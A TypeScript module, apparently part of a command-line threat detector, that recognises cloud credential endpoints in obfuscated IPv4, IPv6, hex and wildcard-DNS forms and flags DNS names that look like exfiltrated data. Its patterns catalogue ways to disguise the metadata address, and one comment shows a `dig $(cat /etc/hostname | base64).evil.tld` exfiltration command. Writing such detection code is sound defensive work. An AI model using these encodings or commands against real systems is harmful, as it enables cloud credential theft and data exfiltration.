/**
 * Addresses and names as they appear in command lines: IPv4 in every form inet_aton accepts, IPv6,
 * URLs and host:port operands, the cloud credential endpoints, loopback, and DNS names that look like
 * data being smuggled out. Pure functions; every scan is capped (see MAX_SCAN_CHARS).
 */

/** Characters of one argument scanned for addresses; a URL's host is always near its start. */
export const MAX_SCAN_CHARS = 16 * 1024;

/**
 * Parses an IPv4 address the way inet_aton does, so "2852039166", "0xa9fea9fe", "0251.0376.0251.0376"
 * and "169.254.43518" all read as 169.254.169.254. Returns the address as an unsigned 32-bit number.
 */
export function parseIPv4(text: string): number | undefined {
  if (text.length === 0 || text.length > 64) return undefined;
  const parts = text.split(".");
  if (parts.length > 4) return undefined;
  const values: number[] = [];
  for (const part of parts) {
    let value: number;
    if (/^0x[0-9a-f]*$/i.test(part)) value = part.length === 2 ? 0 : Number.parseInt(part.slice(2), 16);
    else if (/^0[0-7]*$/.test(part)) value = Number.parseInt(part, 8);
    else if (/^[1-9][0-9]*$/.test(part)) value = Number(part);
    else return undefined;
    if (!Number.isSafeInteger(value)) return undefined;
    values.push(value);
  }
  const last = values.length - 1;
  for (let i = 0; i < last; i++) if (values[i]! > 255) return undefined;
  const tailBits = 8 * (4 - last);
  if (values[last]! >= 2 ** tailBits) return undefined;
  let address = 0;
  for (let i = 0; i < last; i++) address = address * 256 + values[i]!;
  return address * 2 ** tailBits + values[last]!;
}

/** Parses an IPv6 address (with `::`, an embedded IPv4 tail, optional brackets and zone) into 8 groups. */
export function parseIPv6(text: string): number[] | undefined {
  let value = text;
  if (value.startsWith("[") && value.endsWith("]")) value = value.slice(1, -1);
  const zone = value.indexOf("%");
  if (zone !== -1) value = value.slice(0, zone);
  if (value.length < 2 || value.length > 64 || !value.includes(":")) return undefined;
  let tail: number[] = [];
  const lastColon = value.lastIndexOf(":");
  const last = value.slice(lastColon + 1);
  if (last.includes(".")) {
    if (!/^\d{1,3}(?:\.\d{1,3}){3}$/.test(last)) return undefined;
    const v4 = parseIPv4(last);
    if (v4 === undefined) return undefined;
    tail = [Math.floor(v4 / 65536), v4 % 65536];
    value = value.slice(0, lastColon + 1);
    if (!value.endsWith("::")) value = value.slice(0, -1);
  }
  const halves = value.split("::");
  if (halves.length > 2) return undefined;
  const parse = (part: string): number[] | undefined => {
    if (part === "") return [];
    const groups: number[] = [];
    for (const group of part.split(":")) {
      if (!/^[0-9a-f]{1,4}$/i.test(group)) return undefined;
      groups.push(Number.parseInt(group, 16));
    }
    return groups;
  };
  const head = parse(halves[0]!);
  const rest = halves.length === 2 ? parse(halves[1]!) : [];
  if (head === undefined || rest === undefined) return undefined;
  const total = head.length + rest.length + tail.length;
  if (halves.length === 2) {
    if (total > 7) return undefined;
    return [...head, ...new Array<number>(8 - total).fill(0), ...rest, ...tail];
  }
  return total === 8 ? [...head, ...tail] : undefined;
}

const IMDS = 0xa9fea9fe;
const ECS_CREDENTIALS = 0xa9feaa02;
const EKS_POD_IDENTITY = 0xa9feaa17;

/** A cloud credential endpoint the arguments reach, with what it is. */
export interface CredentialEndpoint {
  /** As written in the argument. */
  written: string;
  /** Canonical address. */
  address: string;
  label: string;
}

const ENDPOINT_LABELS: Readonly<Record<string, string>> = {
  "169.254.169.254": "EC2 instance metadata service",
  "169.254.170.2": "ECS task credentials endpoint",
  "169.254.170.23": "EKS Pod Identity agent",
  "fd00:ec2::254": "EC2 instance metadata service over IPv6",
  "fd00:ec2::23": "EKS Pod Identity agent over IPv6",
};

function endpointOfIPv4(address: number): string | undefined {
  if (address === IMDS) return "169.254.169.254";
  if (address === ECS_CREDENTIALS) return "169.254.170.2";
  if (address === EKS_POD_IDENTITY) return "169.254.170.23";
  return undefined;
}

function endpointOfIPv6(groups: readonly number[]): string | undefined {
  const [a, b, c, d, e, f, g, h] = groups;
  if (a === 0xfd00 && b === 0xec2 && c === 0 && d === 0 && e === 0 && f === 0 && g === 0) {
    if (h === 0x254) return "fd00:ec2::254";
    if (h === 0x23) return "fd00:ec2::23";
  }
  // IPv4-mapped (::ffff:169.254.169.254) reaches the IPv4 endpoint.
  if (a === 0 && b === 0 && c === 0 && d === 0 && e === 0 && f === 0xffff) {
    return endpointOfIPv4((g ?? 0) * 65536 + (h ?? 0));
  }
  return undefined;
}

// Dotted or dashed forms anywhere, including wildcard-DNS names such as 169.254.169.254.nip.io.
const DOTTED_ENDPOINT = /(?<![\d.])169[.-]254[.-](?:169[.-]254|170[.-]2(?:3)?)(?!\d)/;
const NUMERIC_HOST = /(?<![\w.-])(?:0x[0-9a-f]+|\d+)(?:\.(?:0x[0-9a-f]+|\d+)){0,3}(?![\w-]|\.\w)/gi;
const IPV6_CANDIDATE =
  /(?<![0-9a-z:.])(?:[0-9a-f]{0,4}:){2,7}(?:[0-9a-f]{1,4}|\d{1,3}(?:\.\d{1,3}){3})?(?![0-9a-z:])/gi;
// Wildcard-DNS services also read an address written as 8 hex digits (app-a9fea9fe.nip.io).
const HEX_ENDPOINT = /(?<![0-9a-z])(?:a9fea9fe|a9feaa02|a9feaa17)(?![0-9a-z])/i;
const METADATA_NAMES = /(?<![\w.-])instance-data(?:\.ec2\.internal)?\.?(?![\w-])/i;
const ECS_CREDENTIALS_VARIABLE = /\$\{?AWS_CONTAINER_CREDENTIALS_(?:RELATIVE|FULL)_URI/;

/** The first cloud credential endpoint an argument reaches, if any. */
export function findCredentialEndpoint(argument: string): CredentialEndpoint | undefined {
  const text = argument.length > MAX_SCAN_CHARS ? argument.slice(0, MAX_SCAN_CHARS) : argument;
  const dotted = DOTTED_ENDPOINT.exec(text);
  if (dotted !== null) {
    const address = dotted[0].replaceAll("-", ".");
    return { written: dotted[0], address, label: ENDPOINT_LABELS[address] ?? "cloud credential endpoint" };
  }
  for (const match of text.matchAll(NUMERIC_HOST)) {
    const value = parseIPv4(match[0]);
    const address = value === undefined ? undefined : endpointOfIPv4(value);
    if (address !== undefined) return { written: match[0], address, label: ENDPOINT_LABELS[address]! };
  }
  if (text.includes(":")) {
    for (const match of text.matchAll(IPV6_CANDIDATE)) {
      const groups = parseIPv6(match[0]);
      const address = groups === undefined ? undefined : endpointOfIPv6(groups);
      if (address !== undefined) return { written: match[0], address, label: ENDPOINT_LABELS[address]! };
    }
  }
  const hex = HEX_ENDPOINT.exec(text);
  if (hex !== null) {
    const address = endpointOfIPv4(Number.parseInt(hex[0], 16))!;
    return { written: hex[0], address, label: ENDPOINT_LABELS[address]! };
  }
  const named = METADATA_NAMES.exec(text);
  if (named !== null) {
    return { written: named[0], address: "169.254.169.254", label: ENDPOINT_LABELS["169.254.169.254"]! };
  }
  const variable = ECS_CREDENTIALS_VARIABLE.exec(text);
  if (variable !== null) {
    return { written: variable[0], address: "169.254.170.2", label: ENDPOINT_LABELS["169.254.170.2"]! };
  }
  return undefined;
}

/**
 * The host an operand names: the host of a URL, of `[v6]:port`, `user@host:path`, `host:port` or
 * `host/path`, or the operand itself. Undefined for what is not a network target: ports and other
 * numbers below 256, paths, "-", empty strings.
 */
export function hostOf(operand: string): string | undefined {
  let value = operand.length > 2048 ? operand.slice(0, 2048) : operand;
  if (value === "" || value === "-" || /^[/.~]/.test(value)) return undefined;
  const url = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]*)/i.exec(value);
  if (url !== null) value = url[1]!;
  const at = value.lastIndexOf("@", value.search(/[/]|$/));
  if (at !== -1) value = value.slice(at + 1);
  if (value.startsWith("[")) {
    const close = value.indexOf("]");
    return close === -1 ? undefined : value.slice(1, close) || undefined;
  }
  if ((value.match(/:/g)?.length ?? 0) >= 2 && parseIPv6(value.split("/")[0]!) !== undefined) {
    return value.split("/")[0];
  }
  value = value.split(/[/:?#]/)[0]!;
  if (value === "") return undefined;
  // A bare number is a port (nc host 4444), unless it is large enough to be an encoded address.
  if (/^\d+$/.test(value) && Number(value) < 65536 && url === null) return undefined;
  if (/^\d+-\d+$/.test(value)) return undefined;
  return value;
}

/** True for localhost names, 127.0.0.0/8 in any IPv4 notation, ::1 and IPv4-mapped loopback. */
export function isLoopback(host: string): boolean {
  const name = host.toLowerCase().replace(/\.$/, "");
  if (name === "localhost" || name.endsWith(".localhost")) return true;
  if (name === "ip6-localhost" || name === "ip6-loopback" || name === "localhost.localdomain") return true;
  const v4 = parseIPv4(name);
  if (v4 !== undefined) return Math.floor(v4 / 2 ** 24) === 127;
  const v6 = parseIPv6(name);
  if (v6 === undefined) return false;
  if (v6.slice(0, 7).every((g) => g === 0) && v6[7] === 1) return true;
  return v6.slice(0, 5).every((g) => g === 0) && v6[5] === 0xffff && Math.floor(v6[6]! / 256) === 127;
}

/** True for the hosts whose traffic the rule does not treat as a signal: loopback and motd.ubuntu.com. */
export function isExemptTarget(host: string): boolean {
  return isLoopback(host) || host.toLowerCase().replace(/\.$/, "") === "motd.ubuntu.com";
}

/** True when `host` is an IP address (either family, any IPv4 notation). */
export function isIPAddress(host: string): boolean {
  return parseIPv4(host) !== undefined || parseIPv6(host) !== undefined;
}

// Zones whose authoritative servers belong to AWS or never leave the cluster: a long label under
// them cannot carry data to an attacker's name server (ELB names have 43-character first labels).
const NON_EXFIL_SUFFIXES = [".amazonaws.com", ".amazonaws.com.cn", ".cluster.local", ".svc", ".internal"];

/**
 * Why a DNS name looks like data being exfiltrated through DNS, or undefined: a name over 100
 * characters, a label over 40, a label of 24+ characters that reads as hex, base32 or base64, or a
 * label built from a command substitution (`$(…).evil.tld`, as exec sessions show it).
 */
export function exfiltrationLook(name: string): string | undefined {
  const host = name.toLowerCase().replace(/\.$/, "");
  if (NON_EXFIL_SUFFIXES.some((suffix) => host.endsWith(suffix))) return undefined;
  // `dig $(cat /etc/hostname | base64).evil.tld` as typed in an exec session: the data is not in the
  // text yet, but a label made of command output under a fixed domain is how DNS exfiltration is written.
  if (host.includes("$(") || host.includes("`")) {
    const close = Math.max(host.lastIndexOf(")"), host.lastIndexOf("`"));
    if (close !== -1 && /\.[a-z0-9_-]/.test(host.slice(close))) return "a label built from command output";
  }
  if (host.length < 24 || isIPAddress(host)) return undefined;
  if (host.length > 100) return `name of ${host.length} characters`;
  const labels = name.replace(/\.$/, "").split(".");
  for (const label of labels) {
    if (label.length > 40) return `label of ${label.length} characters`;
  }
  for (const label of labels) {
    if (label.length < 24) continue;
    const digits = label.replace(/\D/g, "").length;
    if (/^[0-9a-f]+$/i.test(label) && digits > 0 && digits < label.length) return "hex-encoded label";
    if (/^[a-z2-7]+=*$/i.test(label) && digits >= 3) return "base32-looking label";
    if (/^[A-Za-z0-9_-]+$/.test(label) && /[A-Z]/.test(label) && /[a-z]/.test(label) && digits >= 2) {
      return "base64-looking label";
    }
  }
  return undefined;
}
